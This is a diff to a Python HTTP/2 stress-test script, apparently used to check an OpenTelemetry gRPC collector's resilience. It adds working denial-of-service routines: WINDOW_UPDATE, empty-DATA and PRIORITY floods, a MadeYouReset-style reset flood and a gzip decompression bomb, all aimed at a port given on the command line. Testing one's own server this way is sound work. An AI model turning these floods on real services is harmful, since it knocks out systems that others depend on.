@@ -21,7 +21,8 @@ import time
 import hpack
 
 PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = \
+    0, 1, 2, 3, 4, 6, 7, 8, 9
 END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
 EXPORT = '/opentelemetry.proto.collector.trace.v1.TraceService/Export'
 
@@ -119,11 +120,17 @@ def raise_nofile(n):
 
 def flood(args, build, per_turn=64):
     """Connections that each send `build(conn)` frames as fast as the server
-    takes them, reconnecting when closed, until --seconds pass."""
+    takes them (or, with --rate, at most that many a second in all),
+    reconnecting when closed, until --seconds pass."""
     stats = {'frames': 0, 'connects': 0, 'closed_by_server': 0, 'spans': 0}
     conns = []
-    deadline = time.monotonic() + args.seconds
+    most = per_turn
+    start = time.monotonic()
+    deadline = start + args.seconds
     while time.monotonic() < deadline:
+        if args.rate:
+            allowed = int(args.rate * (time.monotonic() - start)) - stats['frames']
+            per_turn = max(0, min(most, allowed // max(1, args.conns)))
         while len(conns) < args.conns:
             try:
                 conns.append(Conn(args.port))
@@ -144,6 +151,60 @@ def flood(args, build, per_turn=64):
     for c in conns:
         c.close()
     return stats
+
+
+def window_update_flood(args):
+    # WINDOW_UPDATE of 1 on the connection, over and over (the window never
+    # overflows: 2^31 of them would be needed).
+    return flood(args, lambda c: frame(WINDOW_UPDATE, 0, 0, struct.pack('>I', 1)))
+
+
+def empty_data_flood(args):
+    # One call opened, then DATA frames with no payload and no END_STREAM.
+    def build(c):
+        if getattr(c, 'open_sid', None) is None:
+            c.open_sid = c.stream_id()
+            return frame(HEADERS, END_HEADERS, c.open_sid, plain_block(args.port))
+        return frame(DATA, 0, c.open_sid)
+    return flood(args, build)
+
+
+def priority_flood(args):
+    # PRIORITY frames for idle streams, dependency 0, weight 16.
+    def build(c):
+        c.prio = getattr(c, 'prio', 0) % 1000 + 1
+        return frame(PRIORITY, 0, 2 * c.prio + 1, struct.pack('>IB', 0, 15))
+    return flood(args, build)
+
+
+def server_reset_flood(args):
+    # MadeYouReset's window-overflow shape: a call opened, then a
+    # WINDOW_UPDATE that overflows its window, which the server answers
+    # with RST_STREAM FLOW_CONTROL_ERROR (a reset of ours, not the client's).
+    def build(c):
+        sid = c.stream_id()
+        return (frame(HEADERS, END_HEADERS, sid, plain_block(args.port)) +
+                frame(WINDOW_UPDATE, 0, sid, struct.pack('>I', 0x7fffffff)))
+    return flood(args, build)
+
+
+def gzip_bomb(args):
+    # Complete Export calls (grpc-encoding gzip) whose message inflates
+    # from about 4 KB to --declare bytes of zeros (no valid request).
+    import zlib
+    z = zlib.compressobj(9, zlib.DEFLATED, 31)
+    msg = z.compress(b'\0' * args.declare) + z.flush()
+    body = b'\x01' + struct.pack('>I', len(msg)) + msg
+    enc = b'\x00' + hpack_int(13, 7, 0) + b'grpc-encoding' + hpack_int(4, 7, 0) + b'gzip'
+
+    def build(c):
+        sid = c.stream_id()
+        out = frame(HEADERS, END_HEADERS, sid, plain_block(args.port) + enc)
+        for off in range(0, len(body), 16384):
+            last = off + 16384 >= len(body)
+            out += frame(DATA, END_STREAM if last else 0, sid, body[off:off + 16384])
+        return out
+    return flood(args, build, per_turn=1)
 
 
 def rapid_reset(args):
@@ -353,9 +414,15 @@ def partial_hold(args):
         stats['bytes'] += len(payload)
         stats['frames'] += 1 + (len(payload) + 16383) // 16384
 
-    deadline = time.monotonic() + args.seconds
+    start = time.monotonic()
+    deadline = start + args.seconds
     while time.monotonic() < deadline and not stop[0]:
         while len(conns) < args.conns:
+            # --connect-rate: past the first --conns, at most that many
+            # connections a second
+            if args.connect_rate and stats['connects'] >= \
+                    args.conns + args.connect_rate * (time.monotonic() - start):
+                break
             try:
                 c = Framed(args.port)
             except OSError:
@@ -385,9 +452,80 @@ def partial_hold(args):
     return stats
 
 
+def pipeline(args):
+    # Not an attack: --calls complete Export calls sent at once on one
+    # connection (more than the server's max_concurrent_streams), then
+    # every answer read: grpc-status per call, or RST_STREAM
+    # REFUSED_STREAM for the calls past the limit. Prints what came back
+    # ("answered", "ok", "refused_stream", "unanswered").
+    body = open(args.body, 'rb').read()
+    msg = b'\x00' + struct.pack('>I', len(body)) + body
+    c = Framed(args.port)
+    dec = hpack.Decoder()
+    sids = []
+    for _ in range(args.calls):
+        sid = c.stream_id()
+        sids.append(sid)
+        c.queue(frame(HEADERS, END_HEADERS, sid, plain_block(args.port)))
+        for off in range(0, len(msg), 16384):
+            last = off + 16384 >= len(msg)
+            c.queue(frame(DATA, END_STREAM if last else 0, sid, msg[off:off + 16384]))
+    status = {}
+    refused = set()
+    deadline = time.monotonic() + 10
+    while time.monotonic() < deadline and len(status) + len(refused) < len(sids):
+        try:
+            while c.pending:
+                n = c.sock.send(c.pending)
+                c.pending = c.pending[n:]
+        except BlockingIOError:
+            pass
+        select.select([c.sock], [c.sock] if c.pending else [], [], 0.05)
+        try:
+            d = c.sock.recv(65536)
+            if not d:
+                break
+            c.inbuf += d
+        except BlockingIOError:
+            pass
+        while len(c.inbuf) >= 9:
+            length = int.from_bytes(c.inbuf[:3], 'big')
+            if len(c.inbuf) < 9 + length:
+                break
+            ftype, flags = c.inbuf[3], c.inbuf[4]
+            sid = int.from_bytes(c.inbuf[5:9], 'big') & 0x7fffffff
+            payload = c.inbuf[9:9 + length]
+            c.inbuf = c.inbuf[9 + length:]
+            if ftype == SETTINGS and not flags & ACK:
+                c.pending += frame(SETTINGS, ACK, 0)
+            elif ftype == HEADERS:
+                assert flags & END_HEADERS, 'the answers fit one HEADERS frame'
+                for k, v in dec.decode(payload):
+                    k = k.decode() if isinstance(k, bytes) else k
+                    v = v.decode() if isinstance(v, bytes) else v
+                    if k == 'grpc-status':
+                        status[sid] = int(v)
+            elif ftype == RST_STREAM and sid not in status:
+                code = struct.unpack('>I', payload)[0]
+                if code == 7:               # REFUSED_STREAM: not processed
+                    refused.add(sid)
+    c.close()
+    ok = sum(1 for v in status.values() if v == 0)
+    return {'frames': 2 * len(sids), 'connects': 1, 'closed_by_server': 0,
+            'spans': ok * args.spans_per_call, 'answered': len(status), 'ok': ok,
+            'refused_stream': len(refused),
+            'unanswered': len(sids) - len(status) - len(refused)}
+
+
 ATTACKS = {
+    'pipeline': pipeline,
     'partial_hold': partial_hold,
     'rapid_reset': rapid_reset,
+    'window_update_flood': window_update_flood,
+    'empty_data_flood': empty_data_flood,
+    'priority_flood': priority_flood,
+    'server_reset_flood': server_reset_flood,
+    'gzip_bomb': gzip_bomb,
     'continuation': continuation,
     'header_list': header_list,
     'hpack_bomb': hpack_bomb,
@@ -411,6 +549,10 @@ def main():
                    help='partial_hold: the message length each call declares')
     p.add_argument('--send', type=int, default=240 << 10,
                    help='partial_hold: the bytes of it sent, then silence')
+    p.add_argument('--connect-rate', type=float, default=0,
+                   help='partial_hold: at most this many reconnections a second')
+    p.add_argument('--rate', type=float, default=0,
+                   help='flood attacks: at most this many frames (gzip_bomb: calls) a second in all')
     args = p.parse_args()
     # The hand-built header block must be what it claims: Debian's HPACK
     # decoder reads it back first.
